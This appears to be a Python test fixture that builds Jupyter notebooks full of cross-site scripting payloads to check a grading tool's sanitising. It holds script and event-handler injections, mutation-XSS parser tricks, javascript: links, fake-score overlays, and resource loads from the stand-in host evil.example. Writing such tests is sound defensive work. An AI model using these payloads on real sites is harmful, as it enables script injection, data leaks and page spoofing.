"""What a submission may bring to run code where others read it: one payload a name.

Each would call `hit()`, fetch from evil.example, leave the page, or cover it. Kinds say where it
stands: in a "markdown" cell, or in an output of that MIME type, on "stdout", or in a "traceback".
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from typing import Any

import nbformat
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_output,
    new_raw_cell,
)

#: A picture of one pixel, which must still be there.
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
JS = "javascript:hit()"
EVIL = "https://evil.example"
SVG_XML = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="hit()"><script>hit()</script>'
    f'<image href="{EVIL}/x.png" onerror="hit()"/><circle r="4" onclick="hit()"/></svg>'
)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


#: In Markdown cells.
MARKDOWN = {
    "script": "text <script>hit()</script> text",
    "script_from_elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script_in_capitals": "<SCRIPT>hit()</SCRIPT>",
    "script_in_pieces": "<scr<script>ipt>hit()</scr</script>ipt>",
    "script_after_slash": "<script/x>hit()</script/x>",
    "image_error": "<img src=x onerror=hit()>",
    "image_error_with_slashes": "<img/src/onerror=hit()>",
    "image_error_with_null": "<img src=x on\0error=hit()><img src='\0' onerror=hit()>",
    "image_from_elsewhere": f"![a picture]({EVIL}/x.png)",
    "image_alternatives": f'<img srcset="{EVIL}/y.png 2x" src="data:image/png;base64,{PIXEL}">',
    "image_alt_breaks_out": f'![a"onload="hit()](data:image/png;base64,{PIXEL} "t\\"onload=\\"hit()")',
    "image_as_svg_data": f"![a](data:image/svg+xml;base64,{_base64(SVG_XML)})",
    "body_load": "<body onload=hit()><p>text",
    "details_toggle": "<details open ontoggle=hit()><summary>x</summary>y</details>",
    "video_error": "<video><source onerror=hit()></video><audio src=x onerror=hit()></audio>",
    "input_focus": "<input autofocus onfocus=hit()><select autofocus onfocus=hit()></select>",
    "marquee": "<marquee onstart=hit()>x</marquee>",
    "animation_end": "<style>@keyframes x{}</style><b style='animation:x 1ms' onanimationend=hit()>b</b>",
    "iframe_of_script": f'<iframe src="{JS}"></iframe>',
    "iframe_of_text": '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "iframe_of_data": '<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>',
    "object": f'<object data="{JS}"></object><object data="data:text/html,<script>hit()</script>">',
    "embed": f'<embed src="{JS}"><embed src="data:image/svg+xml;base64,{_base64(SVG_XML)}">',
    "link_script": f"[click]({JS}) <{JS}>",
    "link_script_hidden": "[click](&#106;avascript&colon;hit()) [click](java\tscript:hit())",
    "link_script_in_html": f"<a href='{JS}' id=click>click</a> <a href=' \x01{JS}'>click</a>",
    "link_script_in_reference": f"[click][1]\n\n[1]: {JS}",
    "link_data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link_vbscript": "<a href='vbscript:hit()'>click</a> <a href='view-source:x'>x</a>",
    "link_pings": f'<a href="https://example.org" ping="{EVIL}/p">x</a>',
    "image_map": f'<img usemap="#m" src="data:image/png;base64,{PIXEL}"><map name=m><area shape=default href="{JS}"></map>',
    "stylesheet": f'<link rel=stylesheet href="{EVIL}/x.css"><link rel=prefetch href="{EVIL}/p">',
    "style_import": f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/b)}}</style>",
    "style_hides_the_page": "<style>*{display:none !important}</style>",
    "style_covers_the_page": '<div style="position:fixed;inset:0;z-index:9;background:#fff">all right: 46 of 46</div>',
    "style_attribute_fetches": f'<p style="background:url({EVIL}/b)">x</p><table><tr><td style="text-align:right;background:url({EVIL}/c)">x</table>',
    "style_expression": "<p style=\"width:expression(hit());-moz-binding:url('x')\">x</p>",
    "meta_refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    "meta_refresh_script": f'<meta http-equiv=refresh content="0;url={JS}">',
    "base": f'<base href="{EVIL}/"><a href="x">x</a>',
    "form": f'<form action="{JS}" id=f><button>send</button></form><button form=f formaction="{JS}">x</button>',
    "svg_script": "<svg><script>hit()</script></svg>",
    "svg_load": "<svg onload=hit()></svg>",
    "svg_animates_link": f'<svg><a><animate attributeName=href values="{JS}"/><text y=9>click</text></a></svg>',
    "svg_set_and_use": f'<svg><set attributeName=onmouseover to=hit()/><use href="data:image/svg+xml;base64,{_base64(SVG_XML)}#x"/></svg>',
    "svg_foreign_object": "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror=hit()></body></foreignObject></svg>",
    "svg_style_breaks_out": "<svg><style><img src=x onerror=hit()></style></svg>",
    "svg_ends_inside": "<svg><title></svg><img src=x onerror=hit()></title></svg>",
    "math_link": f'<math href="{JS}"><mi href="{JS}">click</mi></math>',
    "math_action": f'<math><maction actiontype="statusline#{EVIL}" xlink:href="{JS}">click</maction></math>',
    "math_annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
    "mutation_math_table": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hit()&gt;\">",
    "mutation_form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "mutation_svg_paragraph": '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    "mutation_noscript": '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "mutation_template": "<template><s><template><s><img src=x onerror=hit()>x</s></template></s></template>",
    "mutation_select": "<select><template><style></select><img src=x onerror=hit()></style></template>",
    "mutation_deep": "<div>" * 600 + "<table><caption><svg><title><style></title><img src=x onerror=hit()>",
    "unclosed_comment": "<!-- all that follows is gone",
    "comment_ends_early": "<!--><img src=x onerror=hit()>--> <!--!><img src=x onerror=hit()>-->",
    "unclosed_textarea": "<textarea>",
    "unclosed_title": "<title>",
    "unclosed_script": "<script>",
    "unclosed_style": "<style>",
    "unclosed_attribute": '<a href="',
    "plaintext": "<plaintext>",
    "xmp": "<xmp><img src=x onerror=hit()></xmp><listing><img src=x onerror=hit()></listing>",
    "closes_the_page": "</div></section></main></body></html><script>hit()</script>",
    "cdata": "<![CDATA[<img src=x onerror=hit()>]]><?php hit() ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "names_shadow_the_page": '<img name=getElementById><a id=questions name=body>x</a><form id=hit></form>',
    "code_language": '```"><img src=x onerror=hit()>\nx\n```\n\n`<img src=x onerror=hit()>`',
    "tex_link": rf"$\href{{{JS}}}{{click}}$ $$\url{{{JS}}}$$",
    "tex_html": r"$\text{<img src=x onerror=hit()>}$ $\style{}{<script>hit()</script>}$ $</math><img src=x onerror=hit()>$",
    "tex_entities": r"$\text{&lt;img src=x onerror=hit()&gt;}$ $\mathrm{&#60;script&#62;hit()&#60;/script&#62;}$",
    "tex_attribute": r'$\color{red" onclick="hit()}{x}$ $\class{a" onload="hit()}{x}$ $\hspace{1em" onload="hit()}$',
    "tex_macros": r"$\def\x{<script>hit()</script>}\x$ $\newcommand{\a}{aa}\newcommand{\b}{\a\a}\b$",
    "tex_environment": rf"\begin{{align}}<img src=x onerror=hit()> & \href{{{JS}}}{{x}}\end{{align}}",
    "tex_moves": r"$\kern-99em\hspace{-9999em}\raise9999em{x}$",
}  # fmt: skip

#: In outputs: MIME type and content.
OUTPUTS: dict[str, tuple[str, Any]] = {
    "output_script": ("text/html", "<script>hit()</script><b>b</b>"),
    "output_handler": ("text/html", "<b onclick=hit() onmouseover=hit()>b</b><img src=x onerror=hit()>"),
    "output_iframe": ("text/html", '<iframe srcdoc="<script>parent.hit()</script>"></iframe>'),
    "output_button": ("text/html", "<button onclick=hit() autofocus onfocus=hit()>press</button>"),
    "output_breaks_out": ("text/html", "</div></pre></section></main><script>hit()</script><!--"),
    "output_table_style": ("text/html", "<style scoped>*{display:none}</style><table><tr><td>1</td></tr></table>"),
    "output_svg": ("image/svg+xml", SVG_XML),
    "output_svg_no_xml": ("image/svg+xml", "<svg><b><img src=x onerror=hit()>"),
    "output_svg_entities": ("image/svg+xml", "<!DOCTYPE svg [<!ENTITY a 'x'><!ENTITY b '&a;&a;'>]><svg>&b;</svg>"),
    "output_svg_breaks_out": ("image/svg+xml", '"><script>hit()</script><svg>'),
    "output_javascript": ("application/javascript", "hit()"),
    "output_ecmascript": ("text/javascript", "hit()"),
    "output_json": ("application/json", {"a": "</script><script>hit()</script>"}),
    "output_widget": ("application/vnd.jupyter.widget-view+json", {"model_id": "</script><script>hit()</script>"}),
    "output_bokeh": ("application/vnd.bokehjs_exec.v0+json", "hit()"),
    "output_mermaid": ("text/vnd.mermaid", 'graph TD; A["<img src=x onerror=hit()>"]'),
    "output_latex": ("text/latex", rf"$\href{{{JS}}}{{x}}$ <img src=x onerror=hit()>"),
    "output_markdown": ("text/markdown", f"[click]({JS}) <img src=x onerror=hit()>"),
    "output_plain": ("text/plain", "<script>hit()</script></pre><img src=x onerror=hit()>"),
    "output_png_breaks_out": ("image/png", '"><script>hit()</script><img src="'),
    "output_jpeg_breaks_out": ("image/jpeg", '" onerror="hit()'),
    "output_pdf": ("application/pdf", _base64("%PDF hit()")),
    "stdout": ("stdout", "<script>hit()</script></pre><img src=x onerror=hit()>\n"),
    "stdout_terminal_link": ("stdout", f"\x1b]8;;{JS}\x07click\x1b]8;;\x07 \x1b[31m<img src=x onerror=hit()>\x1b[0m\n"),
    "stdout_terminal_colour": ("stdout", "\x1b[38;2;1;2;3\"onclick=hit()m red \x1b[1;31;<script>hit()</script>m\n"),
    "traceback": ("traceback", "<script>hit()</script>\x1b[0;31m<img src=x onerror=hit()>\x1b[0m"),
}  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """Cells of a notebook, the student's id, the hint and the comment that go with them."""

    name: str
    cells: list[nbformat.NotebookNode] = field(default_factory=list)
    student: str = ""
    hint: str = "look at the sign"
    comment: str = "Well seen."


def _output(kind: str, content: Any) -> nbformat.NotebookNode:
    if kind == "stdout":
        return new_output("stream", name="stdout", text=content)
    if kind == "traceback":
        return new_output("error", ename=content, evalue=content, traceback=[content])
    return new_output("display_data", {kind: content})


def _others() -> list[Payload]:
    """Payloads with more to them than a text."""
    picture = {"image/png": PIXEL}
    wide = {
        "image/png": {"width": "1 onload=hit()", "height": '1"onload="hit()', "alt": '"><script>'}
    }
    isolated = {"text/html": {"isolated": True}}
    html = {"text/html": "<script>hit()</script><b>b</b>"}
    sized, alone = (
        new_code_cell("1", outputs=[new_output("display_data", data, metadata=metadata)])
        for data, metadata in ((picture, wide), (html, isolated))
    )
    attached = new_markdown_cell("![x](attachment:x.png) ![y](attachment:y.png)")
    attached.attachments = {
        "x.png": {"text/html": _base64("<script>hit()</script>")},
        "y.png": {"image/png": 'AA"onerror="hit()'},
    }
    named = new_markdown_cell(
        '<img src="attachment:javascript:hit()"> ![x](attachment:x"onerror="hit())'
    )
    named.attachments = {'x"onerror="hit()': {"image/png": PIXEL}}
    evil = "<img src=x onerror=hit()>"
    return [
        Payload("output_metadata", [sized]),
        Payload("output_isolated", [alone]),
        Payload("attachment_of_wrong_kind", [attached]),
        Payload("attachment_name", [named]),
        Payload("raw_cell", [new_raw_cell("<script>hit()</script>" + evil)]),
        Payload("raw_html_cell", [new_raw_cell(evil, metadata={"raw_mimetype": "text/html"})]),
        Payload("code", [new_code_cell(f"'</pre>{evil}' # <script>hit()</script>")]),
        Payload(
            "code_magic", [new_code_cell("%%javascript\nhit()"), new_code_cell("%%html\n" + evil)]
        ),
        Payload(
            "code_of_a_language", [new_code_cell(evil, metadata={"magics_language": '"' + evil})]
        ),
        Payload("student_name", student="<img src=x onerror=hit()>"),
        Payload("student_name_quoted", student="a\" onload='hit()' b"),
        Payload("hint", hint=f"</bdi></td>{evil}<script>hit()</script>"),
        Payload("comment", comment=f"</p>{evil}<script>hit()</script> [x]({JS}) \u202e"),
    ]


PAYLOADS = [
    *(Payload(name, [new_markdown_cell(text)]) for name, text in MARKDOWN.items()),
    *(
        Payload(name, [new_code_cell("show()", outputs=[_output(kind, content)])])
        for name, (kind, content) in OUTPUTS.items()
    ),
    *_others(),
]


def groups(size: int = 12) -> list[Payload]:
    """The same in few notebooks, where a page takes seconds; what is not in cells, alone."""
    in_cells = [payload for payload in PAYLOADS if payload.cells]
    batches = [in_cells[start : start + size] for start in range(0, len(in_cells), size)]
    together = [
        Payload(f"group-{n}", [_copied(cell) for payload in batch for cell in payload.cells])
        for n, batch in enumerate(batches)
    ]
    return together + [payload for payload in PAYLOADS if not payload.cells]


def _copied(cell: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The cell once more, with an id of its own."""
    return nbformat.from_dict({**cell, "id": f"copy-{cell.id}"})


GROUPS = groups()
